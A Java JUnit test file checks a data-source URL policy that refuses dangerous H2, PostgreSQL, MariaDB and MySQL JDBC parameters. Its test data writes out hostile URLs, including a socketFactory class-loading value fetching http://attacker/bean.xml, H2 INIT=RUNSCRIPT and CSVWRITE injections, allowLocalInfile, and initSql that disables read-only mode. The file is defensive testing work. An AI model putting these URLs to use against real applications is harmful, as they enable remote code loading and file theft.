package dev.lookout.datasource;

import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.SQLException;
import java.util.List;
import java.util.Optional;
import java.util.Properties;
import java.util.function.Function;
import java.util.stream.Stream;

import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.mariadb.jdbc.Configuration;
import org.postgresql.Driver;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

/**
 * The URL policy without Spring: H2 is refused in every spelling but for the application's own
 * embedded databases; PostgreSQL, MariaDB and MySQL parameters outside the allow-list are refused
 * by name, and where a parameter is dangerous the driver's own parser shows it really reads it,
 * so the refusal covers what the driver would use.
 */
class JdbcUrlPolicyTest {

	private static final EmbeddedDataSource DEMO = new EmbeddedDataSource("jdbc:h2:mem:demo;DB_CLOSE_DELAY=-1",
			"demo_reader");

	private static final JdbcUrlPolicy POLICY = new JdbcUrlPolicy(AllowedHosts.parse(""), List.of(DEMO));

	private static String refusal(String url) {
		Optional<String> problem = POLICY.problem(url);
		assertThat(problem).as("refusal of %s", url).isPresent();
		return problem.get();
	}

	private static Properties pgjdbc(String url) {
		Properties read = Driver.parseURL(url, new Properties());
		assertThat(read).as("pgjdbc reads %s", url).isNotNull();
		return read;
	}

	private static Configuration mariaDbDriver(DataSourceKind kind, String url) throws SQLException {
		Configuration configuration = Configuration.parse(kind.driverUrl(url));
		assertThat(configuration).as("the MariaDB driver reads %s", url).isNotNull();
		return configuration;
	}

	@Nested
	class H2 {

		@ParameterizedTest
		@ValueSource(strings = { "jdbc:h2:mem:reports", "jdbc:h2:file:/any/path", "jdbc:h2:zip:/x.zip!/db",
				"jdbc:h2:tcp://127.0.0.1:9092/~/db", "jdbc:h2:ssl://db.example.com/~/db", "jdbc:h2:./relative",
				"jdbc:h2:~/home", "jdbc:h2:mem:x;\\INIT=RUNSCRIPT FROM 'x'",
				"jdbc:h2:mem:x;INIT=CALL CSVWRITE('/tmp/x', 'SELECT 1')", "jdbc:h2:MEM:reports", "jdbc:h2:File:/any/path",
				"jdbc:h2:ZIP:/x.zip!/db", "jdbc:h2:mem:demo;DB_CLOSE_DELAY=-1" })
		void isRefusedInEverySpellingSayingWhyAndWhereToGo(String url) {
			assertThat(refusal(url)).startsWith("H2 data sources are not allowed")
				.contains("Lookout's own process", "FILE_READ", "RUNSCRIPT", "jdbc:postgresql://");
		}

		@ParameterizedTest
		@ValueSource(strings = { "JDBC:H2:mem:x", "jdbc:H2:mem:x", "Jdbc:h2:mem:x", " jdbc:h2:mem:x" })
		void anUpperCaseSchemeIsAnUnknownScheme(String url) {
			assertThat(refusal(url)).startsWith("jdbcUrl must start with jdbc:postgresql:, jdbc:mariadb:, jdbc:mysql:")
				.doesNotContain("jdbc:h2:");
			assertThat(DataSourceKind.ofUrl(url)).isEmpty();
		}

		@Test
		void theUnknownSchemeIsQuotedButNothingAfterIt() {
			assertThat(refusal("jdbc:sqlserver://db;password=hunter2")).endsWith("but starts with 'jdbc:sqlserver:'")
				.doesNotContain("hunter2");
			assertThat(refusal("postgres://u:hunter2@db/app")).contains("write jdbc:postgresql://host:port/database")
				.doesNotContain("hunter2");
		}

		@Test
		void theDeclaredEmbeddedDatabaseOpensOnlyAsItsUser() {
			assertThat(POLICY.isEmbedded(DEMO.jdbcUrl(), "demo_reader")).isTrue();
			assertThat(POLICY.refusalOfStored(DataSourceKind.H2, DEMO.jdbcUrl(), "demo_reader")).isEmpty();
			assertThat(POLICY.refusalOfStored(DataSourceKind.H2, DEMO.jdbcUrl(), "sa"))
				.hasValueSatisfying((message) -> assertThat(message).startsWith("H2 data sources are not allowed"));
			assertThat(POLICY.refusalOfStored(DataSourceKind.H2, DEMO.jdbcUrl(), "DEMO_READER")).isPresent();
			assertThat(POLICY.refusalOfStored(DataSourceKind.H2, DEMO.jdbcUrl() + ";INIT=RUNSCRIPT FROM 'x'",
					"demo_reader"))
				.isPresent();
			assertThat(POLICY.refusalOfStored(DataSourceKind.H2, "jdbc:h2:mem:demo", "demo_reader")).isPresent();
		}

		@Test
		void anAdminMayNeverSaveTheEmbeddedDatabase() {
			assertThat(refusal(DEMO.jdbcUrl())).startsWith("H2 data sources are not allowed");
		}

		@Test
		void aStoredSourceWhoseKindDisagreesWithItsUrlIsJudgedByTheUrl() {
			assertThat(POLICY.refusalOfStored(DataSourceKind.POSTGRESQL, DEMO.jdbcUrl(), "demo_reader"))
				.hasValueSatisfying((message) -> assertThat(message).startsWith("H2 data sources are not allowed"));
			assertThat(POLICY.refusalOfStored(DataSourceKind.POSTGRESQL, "jdbc:postgresql://db/app", "reader"))
				.isEmpty();
			assertThat(POLICY.refusalOfStored(DataSourceKind.POSTGRESQL, "jdbc:postgresql://db/app?socketFactory=x",
					"reader"))
				.isPresent();
		}

	}

	@Nested
	class PostgreSql {

		private static final String BASE = "jdbc:postgresql://db.example.com:5432/app?";

		/** Query, the key pgjdbc reads from it, the value it reads, the name the refusal quotes. */
		static Stream<Arguments> dangerous() {
			return Stream.of(
					arguments("socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
							+ "&socketFactoryArg=http://attacker/bean.xml", "socketFactory",
							"org.springframework.context.support.ClassPathXmlApplicationContext", "socketFactory"),
					arguments("socketFactoryArg=http://attacker/bean.xml", "socketFactoryArg",
							"http://attacker/bean.xml", "socketFactoryArg"),
					arguments("sslfactory=com.example.Evil", "sslfactory", "com.example.Evil", "sslfactory"),
					arguments("sslpasswordcallback=com.example.Evil", "sslpasswordcallback", "com.example.Evil",
							"sslpasswordcallback"),
					arguments("sslhostnameverifier=com.example.Evil", "sslhostnameverifier", "com.example.Evil",
							"sslhostnameverifier"),
					arguments("authenticationPluginClassName=com.example.Evil", "authenticationPluginClassName",
							"com.example.Evil", "authenticationPluginClassName"),
					arguments("options=-c%20default_transaction_read_only=off", "options",
							"-c default_transaction_read_only=off", "options"),
					arguments("readOnlyMode=ignore", "readOnlyMode", "ignore", "readOnlyMode"),
					arguments("loggerFile=/tmp/lookout.log", "loggerFile", "/tmp/lookout.log", "loggerFile"),
					arguments("loggerLevel=TRACE", "loggerLevel", "TRACE", "loggerLevel"),
					arguments("sslcert=/etc/lookout/secret.key", "sslcert", "/etc/lookout/secret.key", "sslcert"),
					arguments("sslkey=/etc/lookout/secret.key", "sslkey", "/etc/lookout/secret.key", "sslkey"),
					// The query's PGHOST replaces the host before the '?': the connection would go there.
					arguments("PGHOST=10.0.0.99", "PGHOST", "10.0.0.99", "PGHOST"),
					arguments("PGPORT=6543", "PGPORT", "6543", "PGPORT"),
					arguments("PGDBNAME=postgres", "PGDBNAME", "postgres", "PGDBNAME"),
					// pgjdbc's service-file spellings of the location keys.
					arguments("host=10.0.0.99", "PGHOST", "10.0.0.99", "PGHOST"),
					// The last of repeated keys wins; a bad key among them is refused all the same.
					arguments("sslmode=require&sslmode=disable&socketFactory=x", "socketFactory", "x", "socketFactory"),
					arguments("&&socketFactory=x", "socketFactory", "x", "socketFactory"),
					arguments("ApplicationName=lookout&&&socketFactory=x", "socketFactory", "x", "socketFactory"));
		}

		@ParameterizedTest
		@MethodSource("dangerous")
		void aParameterThePgjdbcParserReadsIsRefusedByName(String query, String key, String value, String quoted) {
			String url = BASE + query;
			assertThat(pgjdbc(url).getProperty(key)).as("pgjdbc's %s", key).isEqualTo(value);
			assertThat(refusal(url)).startsWith("jdbcUrl must not set the parameter '" + quoted + "'")
				.contains("ApplicationName", "load classes");
		}

		@Test
		void aPgHostInTheQueryMovesTheConnectionAndItsAddressIsCheckedToo() {
			JdbcUrlPolicy internalOnly = new JdbcUrlPolicy(AllowedHosts.parse("db.example.com"), List.of());
			String url = BASE + "PGHOST=10.0.0.99";
			assertThat(pgjdbc(url).getProperty("PGHOST")).isEqualTo("10.0.0.99");
			assertThat(DriverUrl.read(DataSourceKind.POSTGRESQL, url).hosts()).containsExactly("10.0.0.99");
			assertThat(internalOnly.problem(url)).isPresent();
			// Restating the same location is harmless.
			assertThat(internalOnly.problem(BASE + "PGHOST=db.example.com")).isEmpty();
		}

		@ParameterizedTest
		@ValueSource(strings = { "%73ocketFactory=x", "SOCKETFACTORY=x", "SocketFactory=x", "socketfactory=x",
				"socketFactory =x", "applicationname=x" })
		void aSpellingPgjdbcDoesNotReadIsStillNotOnTheList(String query) {
			String url = BASE + query;
			String name = query.substring(0, query.indexOf('='));
			Properties read = pgjdbc(url);
			assertThat(read.getProperty("socketFactory")).isNull();
			assertThat(read.getProperty("ApplicationName")).isNull();
			assertThat(read.getProperty(name)).isEqualTo("x");
			assertThat(refusal(url)).startsWith("jdbcUrl must not set the parameter '" + name + "'");
		}

		@ParameterizedTest
		@ValueSource(strings = { "service=lookout", "service=", "service", "SERVICE=lookout" })
		void aServiceIsRefusedByNameWithoutAServiceFile(String query) {
			assertThat(refusal(BASE + query)).startsWith("jdbcUrl must not set the parameter '"
					+ query.split("=")[0] + "'");
		}

		/**
		 * With a pg_service.conf on the server, pgjdbc merges the service's settings into the URL's and
		 * drops the key itself: the refusal must not depend on the key surviving the parse.
		 */
		@Test
		void aServiceIsRefusedByNameWhenTheServerHasAServiceFile(@TempDir Path directory) throws Exception {
			Path file = directory.resolve("pg_service.conf");
			Files.writeString(file, "[plain]\nsslmode=require\n[elsewhere]\nhost=10.0.0.99\nport=6543\n");
			String property = "org.postgresql.pgservicefile";
			String before = System.getProperty(property);
			System.setProperty(property, file.toString());
			try {
				Properties read = pgjdbc(BASE + "service=plain");
				assertThat(read.getProperty("sslmode")).as("the service's setting").isEqualTo("require");
				assertThat(read.getProperty("service")).as("pgjdbc drops the key").isNull();
				for (String query : List.of("service=plain", "service=pl%61in", "service=elsewhere",
						"sslmode=verify-full&service=plain", "service=elsewhere&service=plain")) {
					assertThat(refusal(BASE + query)).as(query)
						.startsWith("jdbcUrl must not set the parameter 'service'");
				}
				assertThat(refusal("jdbc:postgresql:///?service=elsewhere"))
					.startsWith("jdbcUrl must not set the parameter 'service'");
			}
			finally {
				if (before == null) {
					System.clearProperty(property);
				}
				else {
					System.setProperty(property, before);
				}
			}
		}

		@ParameterizedTest
		@ValueSource(strings = { "socketTimeout=0", "connectTimeout=0", "connectTimeout=-1", "loginTimeout=0",
				"socketTimeout=1.5", "socketTimeout=", "socketTimeout=9999999999", "cancelSignalTimeout=0" })
		void aTimeoutMustBeAboveZero(String query) {
			String name = query.substring(0, query.indexOf('='));
			assertThat(refusal(BASE + query))
				.isEqualTo("jdbcUrl parameter '" + name + "' must be a whole number of seconds above zero");
		}

		@ParameterizedTest
		@ValueSource(strings = { "sslmode=bogus", "sslmode=", "targetServerType=master2", "gssEncMode=sometimes",
				"ssl=yes", "tcpKeepAlive=1" })
		void aValueOutsideItsSetIsRefused(String query) {
			String name = query.substring(0, query.indexOf('='));
			assertThat(refusal(BASE + query)).startsWith("jdbcUrl parameter '" + name + "' must be ");
		}

		@Test
		void aTextValueWithAControlCharacterIsRefused() {
			assertThat(refusal(BASE + "ApplicationName=a%0Ab"))
				.isEqualTo("jdbcUrl parameter 'ApplicationName' must be text of at most 200 characters without"
						+ " control characters");
		}

		@ParameterizedTest
		@ValueSource(strings = { BASE + "password=hunter2", BASE + "ApplicationName=x&password=hunter2",
				"jdbc:postgresql://alice:hunter2@db.example.com:5432/app", "jdbc:postgresql://:hunter2@db/app" })
		void aPasswordIsRefusedWithoutQuotingIt(String url) {
			assertThat(refusal(url)).startsWith("jdbcUrl must not carry a password")
				.contains("password field")
				.doesNotContain("hunter2");
		}

		@Test
		void aUserIsRefusedWithoutQuotingIt() {
			assertThat(refusal(BASE + "user=alice")).isEqualTo("jdbcUrl must not name the user: enter it in the"
					+ " username field");
		}

		@ParameterizedTest
		@ValueSource(strings = { "jdbc:postgresql://db.example.com:5432/app", "jdbc:postgresql://db/app",
				"jdbc:postgresql://db.example.com/app?ApplicationName=Lookout%20dashboards",
				"jdbc:postgresql://db/app?connectTimeout=10&socketTimeout=60&loginTimeout=10",
				"jdbc:postgresql://db/app?sslmode=verify-full&sslrootcert=/etc/lookout/root.crt",
				"jdbc:postgresql://db/app?ssl=true&sslmode=verify-ca",
				"jdbc:postgresql://db/app?currentSchema=reporting",
				"jdbc:postgresql://db1:5432,db2:5433/app?targetServerType=primary",
				"jdbc:postgresql://db1,db2,db3/app?targetServerType=preferSecondary&loadBalanceHosts=true"
						+ "&hostRecheckSeconds=30",
				"jdbc:postgresql://[::1]:5432/app", "jdbc:postgresql://db/app?&ApplicationName=x&",
				"jdbc:postgresql://db/app?PGHOST=db&PGPORT=5432&PGDBNAME=app" })
		void theseAreAllowed(String url) {
			assertThat(POLICY.problem(url)).isEmpty();
		}

		@Test
		void multipleHostsAreAllRead() {
			assertThat(DriverUrl.read(DataSourceKind.POSTGRESQL, "jdbc:postgresql://db1:5432,db2:5433/app").hosts())
				.containsExactly("db1", "db2");
		}

		@Test
		void aUrlPgjdbcRejectsIsRefusedAsUnusable() {
			assertThat(refusal("jdbc:postgresql://db:notaport/app")).startsWith("jdbcUrl is not usable");
		}

	}

	@Nested
	class MariaDbAndMySql {

		/** The key as written and what the MariaDB driver makes of it. */
		static Stream<Arguments> dangerous() {
			return Stream.of(
					arguments("allowLocalInfile=true", "allowLocalInfile"),
					arguments("ALLOWLOCALINFILE=true", "ALLOWLOCALINFILE"),
					arguments("AllowLocalInfile=true", "AllowLocalInfile"),
					arguments("allowMultiQueries=true", "allowMultiQueries"),
					arguments("ALLOWMULTIQUERIES=true", "ALLOWMULTIQUERIES"),
					arguments("allowMultiQueries", "allowMultiQueries"),
					arguments("sessionVariables=transaction_read_only=0", "sessionVariables"),
					arguments("socketFactory=com.example.Evil", "socketFactory"),
					// Connector/J's name; this driver does not read it, but it is not on the list either.
					arguments("allowLoadLocalInfileInPath=/", "allowLoadLocalInfileInPath"),
					arguments("serverRsaPublicKeyFile=/etc/lookout/secret.key", "serverRsaPublicKeyFile"),
					arguments("trustStore=/etc/lookout/secret.key", "trustStore"),
					arguments("credentialType=ENV", "credentialType"),
					arguments("restrictedAuth=mysql_clear_password", "restrictedAuth"),
					arguments("initSql=SET%20SESSION%20transaction_read_only=0", "initSql"),
					arguments(" allowMultiQueries=true", " allowMultiQueries"),
					arguments("sslMode=verify-full&sslMode=disable&allowMultiQueries=true", "allowMultiQueries"),
					arguments("&&allowMultiQueries=true", "allowMultiQueries"));
		}

		static Stream<Arguments> dangerousOfEachKind() {
			return dangerous().flatMap((each) -> Stream.of(DataSourceKind.MARIADB, DataSourceKind.MYSQL)
				.map((kind) -> arguments(kind, each.get()[0], each.get()[1])));
		}

		private static String url(DataSourceKind kind, String query) {
			return "jdbc:" + kind.value() + "://db.example.com:3306/app?" + query;
		}

		@ParameterizedTest
		@MethodSource("dangerousOfEachKind")
		void aParameterOutsideTheListIsRefusedByName(DataSourceKind kind, String query, String name) {
			assertThat(refusal(url(kind, query))).startsWith("jdbcUrl must not set the parameter '" + name + "'")
				.contains("connectTimeout", "load classes");
		}

		/** The driver ignores the case of names: proven on a key whose default is off. */
		@ParameterizedTest
		@EnumSource(value = DataSourceKind.class, names = { "MARIADB", "MYSQL" })
		void theDriverReadsAnUpperCaseName(DataSourceKind kind) throws SQLException {
			assertThat(mariaDbDriver(kind, url(kind, "ALLOWMULTIQUERIES=true")).allowMultiQueries()).isTrue();
			assertThat(mariaDbDriver(kind, url(kind, "AllowMultiQueries=true")).allowMultiQueries()).isTrue();
			assertThat(mariaDbDriver(kind, url(kind, "connectTimeout=5")).allowMultiQueries()).isFalse();
			assertThat(mariaDbDriver(kind, url(kind, "ALLOWLOCALINFILE=false")).allowLocalInfile()).isFalse();
		}

		@ParameterizedTest
		@EnumSource(value = DataSourceKind.class, names = { "MARIADB", "MYSQL" })
		void theDriverReadsABareNameAsTrue(DataSourceKind kind) throws SQLException {
			assertThat(mariaDbDriver(kind, url(kind, "allowMultiQueries")).allowMultiQueries()).isTrue();
			assertThat(refusal(url(kind, "allowMultiQueries")))
				.startsWith("jdbcUrl must not set the parameter 'allowMultiQueries'");
		}

		@ParameterizedTest
		@EnumSource(value = DataSourceKind.class, names = { "MARIADB", "MYSQL" })
		void theDriverReadsWhatTheListRefuses(DataSourceKind kind) throws SQLException {
			Function<String, Configuration> read = (query) -> {
				try {
					return mariaDbDriver(kind, url(kind, query));
				}
				catch (SQLException ex) {
					throw new AssertionError(ex);
				}
			};
			assertThat(read.apply("sessionVariables=transaction_read_only=0").sessionVariables())
				.isEqualTo("transaction_read_only=0");
			assertThat(read.apply("socketFactory=com.example.Evil").socketFactory()).isEqualTo("com.example.Evil");
			assertThat(read.apply("localSocket=/tmp/mysql.sock").localSocket()).isEqualTo("/tmp/mysql.sock");
			assertThat(read.apply("pipe=mysql").pipe()).isEqualTo("mysql");
			assertThat(read.apply("serverRsaPublicKeyFile=/etc/x").serverRsaPublicKeyFile()).isEqualTo("/etc/x");
			assertThat(read.apply("trustStore=/etc/x").trustStore()).isEqualTo("/etc/x");
			assertThat(read.apply("credentialType=ENV").credentialType()).isEqualTo("ENV");
			assertThat(read.apply("restrictedAuth=mysql_clear_password").restrictedAuth())
				.isEqualTo("mysql_clear_password");
			assertThat(read.apply("initSql=SET x=1").initSql()).isEqualTo("SET x=1");
			// The last of repeated keys wins, and a key after empty ones is read.
			assertThat(read.apply("sslMode=verify-full&sslMode=disable&allowMultiQueries=true").allowMultiQueries())
				.isTrue();
			assertThat(read.apply("&&allowMultiQueries=true").allowMultiQueries()).isTrue();
			// A leading space makes a key the driver does not know: inert, and refused all the same.
			Configuration spaced = read.apply(" allowMultiQueries=true");
			assertThat(spaced.allowMultiQueries()).isFalse();
			assertThat(spaced.nonMappedOptions()).containsKey(" allowMultiQueries");
		}

		@ParameterizedTest
		@ValueSource(strings = { "jdbc:mariadb://address=(host=db)(port=3306)(localSocket=/tmp/mysql.sock)/x",
				"jdbc:mariadb://address=(host=db)(port=3306)(pipe=mysql)/x",
				"jdbc:mysql://address=(host=db)(port=3306)(localSocket=/tmp/mysql.sock)/x",
				"jdbc:mariadb://db1:3306,address=(localSocket=/tmp/mysql.sock)/x" })
		void anAddressNamingALocalSocketOrAPipeIsRefused(String url) throws SQLException {
			DataSourceKind kind = DataSourceKind.ofUrl(url).orElseThrow();
			assertThat(mariaDbDriver(kind, url).addresses())
				.anyMatch((address) -> address.localSocket != null || address.pipe != null);
			assertThat(refusal(url)).isEqualTo("jdbcUrl is not usable: a source connects over the network only: the"
					+ " address form must not name a pipe or a local socket");
		}

		/** As parameters they turn the driver's address into a local one, which is refused as such. */
		@ParameterizedTest
		@ValueSource(strings = { "jdbc:mariadb://db:3306/app?localSocket=/tmp/mysql.sock",
				"jdbc:mariadb://db:3306/app?LOCALSOCKET=/tmp/mysql.sock", "jdbc:mariadb://db:3306/app?pipe=mysql",
				"jdbc:mysql://db:3306/app?localSocket=/tmp/mysql.sock", "jdbc:mysql://db:3306/app?Pipe=mysql" })
		void aLocalSocketOrAPipeAsAParameterIsRefused(String url) throws SQLException {
			DataSourceKind kind = DataSourceKind.ofUrl(url).orElseThrow();
			assertThat(mariaDbDriver(kind, url).addresses())
				.allMatch((address) -> address.localSocket != null || address.pipe != null);
			assertThat(refusal(url)).isEqualTo("jdbcUrl is not usable: a source connects over the network only: the"
					+ " address form must not name a pipe or a local socket");
		}

		@ParameterizedTest
		@EnumSource(value = DataSourceKind.class, names = { "MARIADB", "MYSQL" })
		void aPasswordOrAUserIsRefusedWithoutQuotingIt(DataSourceKind kind) {
			assertThat(refusal(url(kind, "password=hunter2"))).startsWith("jdbcUrl must not carry a password")
				.doesNotContain("hunter2");
			assertThat(refusal(url(kind, "PASSWORD=hunter2"))).startsWith("jdbcUrl must not carry a password")
				.doesNotContain("hunter2");
			assertThat(refusal(url(kind, "user=alice"))).doesNotContain("alice").contains("username field");
			assertThat(refusal("jdbc:" + kind.value() + "://alice:hunter2@db:3306/app"))
				.startsWith("jdbcUrl must not carry a password")
				.doesNotContain("hunter2");
		}

		@ParameterizedTest
		@EnumSource(value = DataSourceKind.class, names = { "MARIADB", "MYSQL" })
		void valuesAreChecked(DataSourceKind kind) {
			assertThat(refusal(url(kind, "socketTimeout=0")))
				.isEqualTo("jdbcUrl parameter 'socketTimeout' must be a whole number of milliseconds above zero");
			assertThat(refusal(url(kind, "connectTimeout=0")))
				.isEqualTo("jdbcUrl parameter 'connectTimeout' must be a whole number of milliseconds above zero");
			// The driver refuses this one itself, before the list is consulted.
			assertThat(refusal(url(kind, "connectTimeout=-1"))).startsWith("jdbcUrl is not usable")
				.contains("connectTimeout");
			// The driver refuses this one itself too.
			assertThat(refusal(url(kind, "sslMode=bogus"))).containsIgnoringCase("sslMode").contains("bogus");
			assertThat(refusal(url(kind, "useSsl=yes"))).startsWith("jdbcUrl parameter 'useSsl' must be true or false");
		}

		@ParameterizedTest
		@EnumSource(value = DataSourceKind.class, names = { "MARIADB", "MYSQL" })
		void theseAreAllowed(DataSourceKind kind) {
			for (String query : List.of("sslMode=verify-full", "SSLMODE=VERIFY-FULL", "connectTimeout=5000",
					"socketTimeout=60000", "connectionTimeZone=UTC", "serverSslCert=/etc/lookout/server.crt",
					"useSsl=true", "useSsl", "sslMode=verify-ca&serverSslCert=/etc/lookout/ca.crt&connectTimeout=5000",
					"tcpKeepAlive=true&defaultFetchSize=500", "&connectTimeout=5000&")) {
				assertThat(POLICY.problem(url(kind, query))).as(query).isEmpty();
			}
			assertThat(POLICY.problem("jdbc:" + kind.value() + "://db1:3306,db2:3306/app")).isEmpty();
			assertThat(POLICY.problem("jdbc:" + kind.value() + "://[::1]:3306/app")).isEmpty();
		}

		@Test
		void mysqlMayRestateThePermissionLookoutAddsAnyway() {
			assertThat(POLICY.problem("jdbc:mysql://db:3306/app?permitMysqlScheme")).isEmpty();
			assertThat(POLICY.problem("jdbc:mysql://db:3306/app?permitMysqlScheme=true")).isEmpty();
			assertThat(refusal("jdbc:mariadb://db:3306/app?permitMysqlScheme"))
				.startsWith("jdbcUrl must not set the parameter 'permitMysqlScheme'");
		}

		@Test
		void theAddressFormsHostsAreRead() {
			assertThat(DriverUrl.read(DataSourceKind.MARIADB,
					"jdbc:mariadb://address=(host=db1)(port=3306),address=(host=db2)(port=3307)/app").hosts())
				.containsExactly("db1", "db2");
		}

	}

}
